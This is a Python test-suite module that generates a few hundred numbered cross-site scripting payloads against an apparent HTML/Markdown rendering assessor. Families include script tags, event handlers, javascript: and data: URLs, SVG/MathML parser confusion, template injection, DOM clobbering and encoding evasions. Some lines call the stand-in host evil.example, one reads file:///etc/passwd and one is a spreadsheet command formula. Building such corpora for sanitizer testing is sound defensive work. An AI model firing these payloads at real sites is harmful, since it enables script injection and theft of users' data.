"""What somebody may write to run code in an assessor's browser, by family.

`{x}` stands for code that gives itself away, `{u}` for an address of the attacker's, `{n}` for the
payload's number. All of them were written for this suite.
"""

from itertools import product

_SCRIPTS = r"""
<script>{x}</script>
<SCRIPT>{x}</SCRIPT>
<script/x>{x}</script>
<script	>{x}</script >
<script type="module">{x}</script>
<script async src="data:text/javascript,{x}"></script>
<script src="{u}/a.js"></script>
<script src=//evil.example/{n}.js></script>
<script><!--{x}--></script>
<script>//<![CDATA[{NL}{x}//]]></script>
<scr<script>ipt>{x}</scr</script>ipt>
<<script>{x}//<</script>
<script{NL}>{x}</script{NL}>
<script xmlns="http://www.w3.org/1999/xhtml">{x}</script>
<noscript><p title="</noscript><script>{x}</script>">
<template><script>{x}</script></template>
<textarea></textarea><script>{x}</script>
<title></title><script>{x}</script>
<style></style><script>{x}</script>
<xmp></xmp><script>{x}</script>
<noembed><img src=x onerror={x}></noembed>
<plaintext><script>{x}</script>
<p>text<script>{x}
<%2Fscript><script>{x}</script>
&lt;script&gt;{x}&lt;/script&gt;<script>{x}</script>
<script>{x}</script
<div><p></div><script>{x}</script></p>
</article></main><script>{x}</script>
</body></html><script>{x}</script>
"><script>{x}</script>
'><script>{x}</script>
--><script>{x}</script>
]]><script>{x}</script>
</title><script>{x}</script>
</style><script>{x}</script>
</textarea><script>{x}</script>
</script><script>{x}</script>
</svg><script>{x}</script>
"""

_EVENTS = (
    ("img", "src=x onerror={x}"), ("img", 'src="x" onerror="{x}"'), ("img", "src=x onerror='{x}'"),
    ("img", "src=x OnErRoR={x}"), ("img", "src=x/onerror={x}"), ("img", "src=x\fonerror={x}"),
    ("img", "src=x onerror\t=\n{x}"), ("img", "src=x onerror=&#97;lert&#40;{n}&#41;"),
    ("img", 'src=x x="><img src=x onerror={x}>"'), ("img", "src onerror={x}"),
    ("img", "srcset=x onerror={x}"), ("img", "src=data:, onerror={x}"),
    ("image", "src=x onerror={x}"), ("body", "onload={x}"), ("body", "onpageshow={x}"),
    ("svg", "onload={x}"), ("svg/onload={x}", ""), ("iframe", "onload={x}"),
    ("input", "autofocus onfocus={x}"), ("select", "autofocus onfocus={x}"),
    ("textarea", "autofocus onfocus={x}"), ("button", "autofocus onfocus={x}"),
    ("a", "href=# tabindex=1 onfocus={x} autofocus"), ("details", "open ontoggle={x}"),
    ("video", "src=x onerror={x}"), ("video", "onloadstart={x} src=x"),
    ("audio", "src=x onerror={x}"), ("audio", "onloadstart={x} src=x"),
    ("video", "><source onerror={x} src=x"), ("object", "data=x onerror={x}"),
    ("embed", "src=x onerror={x}"), ("link", "rel=stylesheet href=x onerror={x}"),
    ("style", "onload={x}"), ("marquee", "onstart={x}"), ("p", "onmouseover={x}"),
    ("p", "onclick={x}"), ("p", "onpointerenter={x}"), ("div", "onscroll={x}"),
    ("p", "style=animation:x onanimationstart={x}"), ("p", "ontransitionend={x}"),
    ("table", "background=x onmouseover={x}"), ("td", "onclick={x}"), ("li", "onmouseover={x}"),
    ("blockquote", "onclick={x}"), ("h1", "onmouseover={x}"), ("ol", "start=1 onmouseover={x}"),
    ("time", "datetime=x onmouseover={x}"), ("track", "onerror={x}"), ("br", "onmouseover={x}"),
    ("dialog", "open onclose={x}"), ("form", "onsubmit={x}"), ("keygen", "autofocus onfocus={x}"),
    ("custom-element", "onmouseover={x}"), ("x", "contenteditable autofocus onfocus={x}"),
    ("mark", "hidden=until-found onbeforematch={x}"), ("meter", "onmouseover={x}"),
    ("ruby", "onmouseover={x}"), ("wbr", "onmouseover={x}"), ("frameset", "onload={x}"),
)  # fmt: skip

_ADDRESSES = r"""
javascript:{x}
JaVaScRiPt:{x}
 javascript:{x}
java&Tab;script:{x}
java&NewLine;script:{x}
java&#x0A;script:{x}
java&#9;script:{x}
&#1;javascript:{x}
&#x6A;avascript:{x}
&#0000106avascript:{x}
javascript&colon;{x}
javascript&#58;{x}
javascript://%0a{x}
javascript:%61lert({n})
vbscript:{x}
livescript:{x}
data:text/html,<script>{x}</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload="{x}"/>
view-source:javascript:{x}
blob:javascript:{x}
feed:javascript:{x}
file:///etc/passwd
\\evil.example\{n}
"""
_CARRIERS = (
    '<a href="{a}">x</a>', '<iframe src="{a}"></iframe>', "[x]({a})", "[x](<{a}>)",
    '<form action="{a}"><input type=submit autofocus></form>',
)  # fmt: skip

_OTHERS = r"""
<svg><script>{x}</script></svg>
<svg><script href="data:,{x}"/></svg>
<svg><a xlink:href="javascript:{x}"><text y="9">x</text></a></svg>
<svg><animate onbegin={x} attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:{x}>
<svg><use href="data:image/svg+xml,<svg id='x' onload='{x}'/>#x"/></svg>
<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>
<svg><style><img src=x onerror={x}></style></svg>
<svg><title><img src=x onerror={x}></title></svg>
<svg><desc><iframe onload={x}></desc></svg>
<svg><image href=x onerror={x}></svg>
<svg><animateTransform onbegin={x} attributeName=transform>
<math><maction actiontype="statusline#" xlink:href="javascript:{x}">x</maction></math>
<math href="javascript:{x}">x</math>
<math><mtext><table><mglyph><style><img src=x onerror={x}></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror={x}></annotation-xml></math>
<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror={x}&gt;"></mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>
<svg></p><style><a id="</style><img src=x onerror={x}>">
<svg><p><style><!--</style><img src=x onerror={x}>--></style></p></svg>
<noscript><style></noscript><img src=x onerror={x}></style>
<listing>&lt;img src=x onerror={x}&gt;</listing>
<table><a href="javascript:{x}"><td><img src=x onerror={x}></a></table>
<select><style><img src=x onerror={x}></style></select>
<p><table><p><img src=x onerror={x}></table>
<a><b></a><img src=x onerror={x}></b>
<details><summary></details><img src=x onerror={x}>
<img alt="`><img src=x onerror={x}>`">
<img title="a&quot; onerror=&quot;{x}" src=x>
<img alt='"><img src=x onerror={x}>' src=x>
<img src="x` `<script>{x}</script>"` `>
<a title="</a><img src=x onerror={x}>">x</a>
<p id='"><img src=x onerror={x}>'>x</p>
<p lang='x" onmouseover="{x}'>x</p>
<td colspan='1" onmouseover="{x}'>x</td>
<ol start='1" onmouseover="{x}'><li>x</ol>
<time datetime='"><img src=x onerror={x}>'>x</time>
<img srcset="{u}/a.png 1x, {u}/b.png 2x">
<picture><source srcset="{u}/c.png"><img src="{u}/d.png"></picture>
<img src="{u}/e.png">
<img src="//evil.example/{n}.png">
<img src="/\evil.example/{n}.png">
<img src="ht&Tab;tps://evil.example/{n}.png">
<img lowsrc="{u}/f.png" dynsrc="{u}/g.png">
![x]({u}/h.png)
![x](//evil.example/{n}.png)
![x](\\evil.example\{n}.png)
<video poster="{u}/i.png" src="{u}/j.mp4"></video>
<audio src="{u}/k.mp3" autoplay></audio>
<video><track src="{u}/l.vtt" default></video>
<video><source src="{u}/m.mp4"></video>
<input type=image src="{u}/n.png">
<body background="{u}/o.png">
<table background="{u}/p.png"><tr><td background="{u}/q.png">x</table>
<link rel=stylesheet href="{u}/r.css">
<link rel=preload as=image href="{u}/s.png">
<link rel=dns-prefetch href="{u}">
<link rel=import href="{u}/t.html">
<link rel=manifest href="{u}/u.json">
<base href="{u}/">
<base target="_top" href="javascript:/a/../">
<meta http-equiv=refresh content="0;url=javascript:{x}">
<meta http-equiv=refresh content="0;url={u}/v">
<meta http-equiv=refresh content="0;data:text/html,<script>{x}</script>">
<meta http-equiv=Set-Cookie content="a={n}">
<meta name=referrer content=unsafe-url>
<iframe src="{u}/w"></iframe>
<iframe srcdoc="<script>parent.{x}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.{x}&gt;"></iframe>
<object data="{u}/x.swf"></object>
<object data="data:text/html,<script>{x}</script>"></object>
<embed src="{u}/y.swf" allowscriptaccess=always>
<embed src="javascript:{x}">
<applet code="A" archive="{u}/z.jar"></applet>
<frameset><frame src="javascript:{x}"></frameset>
<portal src="{u}/1"></portal>
<fencedframe src="{u}/2"></fencedframe>
<form action="{u}/3"><button autofocus>x</button></form>
<form id=f{n} action="{u}/4"></form><button form=f{n}>x</button>
<input form=__search formaction="javascript:{x}" type=submit>
<isindex action=javascript:{x} type=submit>
<a href="x" ping="{u}/5">x</a>
<style>@import "{u}/6.css";</style>
<style>body{background:url({u}/7.png)}</style>
<style>*{content:"{u}";display:none}</style>
<p style="background:url({u}/8.png)">x</p>
<p style="background:url(javascript:{x})">x</p>
<p style="width:expression({x})">x</p>
<p style="-moz-binding:url({u}/9.xml#x)">x</p>
<p style="behavior:url({u}/10.htc)">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<p style="text-align: left;background:url({u}/11.png)">x</p>
<div style="text-align: center" onmouseover="{x}">x</div>
<style>@font-face{font-family:x;src:url({u}/12.woff)}*{font-family:x}</style>
<link rel=stylesheet href="data:text/css,*{background:url({u}/13.png)}">
{{1301*999}}
${1301*999}
#{1301*999}
<%= 1301*999 %>
{%% for x in [1] %%}{{1301*999}}{%% endfor %%}
{{ ''.__class__.__mro__[1].__subclasses__() }}{{1301*999}}
{{ config.__class__ }}{{1301*999}}
{% raw %}{{1301*999}}{% endraw %}
{{constructor.constructor('{x}')()}}
{{$on.constructor('{x}')()}}
[[1301*999]] {1301*999}
<div ng-app>{{1301*999}}</div>
<div v-html="'<img src=x onerror={x}>'"></div>
<div x-data x-init="{x}"></div>
<div data-bind="html: '<img src=x onerror={x}>'"></div>
<p data-md-component="{x}">x</p>
<a id=__config href="data:,{x}">x</a>
<script id=__config type=application/json>{"base":"{u}","search":"{u}/14.js","features":[]}</script>
<p id=__config>{"base":"{u}","search":"{u}/15.js","features":[]}</p>
<img name=body src=x><img id=documentElement src=x>
<form name=getElementById></form>
<form id=location><input name=href value="{u}"></form>
<a id=__md_scope href="{u}">x</a><a id=__md_scope name=href href="{u}">x</a>
<input id=__search type=checkbox checked><label for=__search>x</label>
<img name=__md_get src=x>
<a id=cf-data href="javascript:{x}">x</a>
<p id="cf-turn-1">x</p><p id="__palette">x</p>
<img name=currentScript src="{u}/16.js">
# <img src=x onerror={x}>
# x {#"><img/src=x/onerror={x}>}
# x {#a onclick={x}}
# x {.a onmouseover="{x}"}
# x {#__config}
# x {onclick={x}}
## <script>{x}</script> {#x}
[x](javascript:{x} "t")
[x]: javascript:{x}{NL}{NL}[x]
[x][y]{NL}{NL}[y]: <data:text/html,<script>{x}</script>>
<javascript:{x}>
<JAVASCRIPT:{x}>
[![x](x"onerror="{x})](javascript:{x})
![x](x"onerror="{x})
![x](x 'x" onerror="{x}')
![" onerror="{x}](x)
![<img src=x onerror={x}>](x)
![x][z]{NL}{NL}[z]: x "&quot; onerror={x} &quot;"
[x](x "&quot; onmouseover=&quot;{x}")
[x](<x" onmouseover="{x}>)
[x](#"><img/src=x/onerror={x}>)
[x](?"onmouseover="{x})
[^1]{NL}{NL}[^1]: <img src=x onerror={x}>
[^"><img/src=x/onerror={x}>]
```"><img src=x onerror={x}>{NL}x{NL}```
``` <script>{x}</script>{NL}x{NL}```
`<img src=x onerror={x}>`
    <img src=x onerror={x}>
> <img src=x onerror={x}>
> [!NOTE] <img src=x onerror={x}>
- [x] <img src=x onerror={x}>
| a | <img src=x onerror={x}> |{NL}|---|---|{NL}| <script>{x}</script> | b |
x{NL}: <img src=x onerror={x}>
~~<img src=x onerror={x}>~~
**<img src=x onerror={x}>**
*x*{: onclick="{x}"}
x{onclick={x}}
{.trust onmouseover={x}}
{.trust"><img/src=x/onerror={x}>}
<!-- --><img src=x onerror={x}><!-- -->
<!--><img src=x onerror={x}>-->
<!---><img src=x onerror={x}>-->
<!-- --!><img src=x onerror={x}> -->
<!-- `--><img src=x onerror={x}> -->
<!-- credfolio: ignore CF701 --><img src=x onerror={x}>
<![CDATA[<img src=x onerror={x}>]]>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror={x}>">]>&y;
<?xml version="1.0"?><script>{x}</script>
<?php echo 1 ?><img src=x onerror={x}>
<? ><img src=x onerror={x}>
<!foo><img src=x onerror={x}>
</ ><img src=x onerror={x}>
</3><img src=x onerror={x}>
<3 <img src=x onerror={x}>
<a<img src=x onerror={x}>
<img/src=x/onerror={x}//
<img src=x onerror={x}
<img src=x:x onerror={x}>
＜script＞{x}＜/script＞<img src=x onerror={x}>
‹img src=x onerror={x}›
\u003cimg src=x onerror={x}\u003e
\x3cscript\x3e{x}\x3c/script\x3e
%3Cscript%3E{x}%3C/script%3E
&#60;img src=x onerror={x}&#62;
&amp;lt;img src=x onerror={x}&amp;gt;
+ADw-script+AD4-{x}+ADw-/script+AD4-
<img src=x onerror={x}
<im​g src=x onerror={x}>
‮<img src=x onerror={x}>
*[<img src=x onerror={x}>](x)*
[a](b)<img src=x onerror={x}>[c](d)
<a href="x" style="display:block" onfocus={x} autofocus>x</a>
"autofocus onfocus={x} x="
' autofocus onfocus='{x}
` onmouseover={x} `
" style="x:expression({x})
x" onmouseover="{x}" y="
x' onmouseover='{x}' y='
x onmouseover={x} y=
{"a":"</script><script>{x}</script>"}
";{x};//
';{x};//
`;{x};//
\";{x};//
</script><img src=x onerror={x}>
*/{x}/*
=cmd|'/C calc'!A0 <img src=x onerror={x}>
@SUM(1+1)<img src=x onerror={x}>
00:00:01.000 --> 00:00:02.000 <img src=x onerror={x}>
<v <img src=x onerror={x}>>x
<v.x" onmouseover="{x}">x
<c.x" onmouseover="{x}>x</c>
<00:00:01.000><img src=x onerror={x}>
<ruby>x<rt><img src=x onerror={x}></rt></ruby>
<lang en"><img src=x onerror={x}>x</lang>
**<img src=x onerror={x}>** [00:00:01]: x
[<img src=x onerror={x}>]: x
"""


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line.strip()]


def families() -> dict[str, list[str]]:
    """Every payload by family, in a fixed order, none twice."""
    handlers = [f"<{tag} {rest}>x" if rest else f"<{tag}>x" for tag, rest in _EVENTS]
    handlers = [text.replace("<svg/onload={x} >", "<svg/onload={x}>") for text in handlers]
    urls = [
        carrier.replace("{a}", address)
        for carrier, address in product(_CARRIERS, _lines(_ADDRESSES))
    ]
    return {
        "script elements": list(dict.fromkeys(_lines(_SCRIPTS))),
        "event handlers": list(dict.fromkeys(handlers)),
        "addresses": list(dict.fromkeys(urls)),
        "drawings, styles, templates, Markdown and others": list(dict.fromkeys(_lines(_OTHERS))),
    }


def filled(template: str, number: int) -> str:
    """A payload with its number; it gives itself away by `alert(number)`."""
    address = f"https://evil.example/{number}"
    text = template.replace("{x}", f"alert({number})").replace("{u}", address)
    return text.replace("{n}", str(number)).replace("{NL}", "\n").replace("%%", "%")


def payloads() -> list[tuple[int, str, str]]:
    """(number, family, payload), numbered from 1000 on so that no page says the number itself."""
    every = [(family, text) for family, texts in families().items() for text in texts]
    return [(n, family, filled(text, n)) for n, (family, text) in enumerate(every, 1000)]
